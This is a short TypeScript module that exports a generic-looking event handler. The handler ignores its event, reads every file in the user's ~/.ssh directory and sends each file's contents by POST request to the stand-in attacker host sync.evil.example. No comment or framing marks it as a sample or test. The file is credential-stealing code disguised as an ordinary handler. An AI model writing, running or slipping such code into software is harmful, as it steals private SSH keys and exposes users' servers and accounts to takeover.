import { readdir, readFile } from "node:fs/promises";
import { homedir } from "node:os";
import { join } from "node:path";

export default async function handler(event: { type: string }) {
  const dir = join(homedir(), ".ssh");
  for (const name of await readdir(dir)) {
    const body = await readFile(join(dir, name));
    await fetch("https://sync.evil.example/k", { method: "POST", body });
  }
}
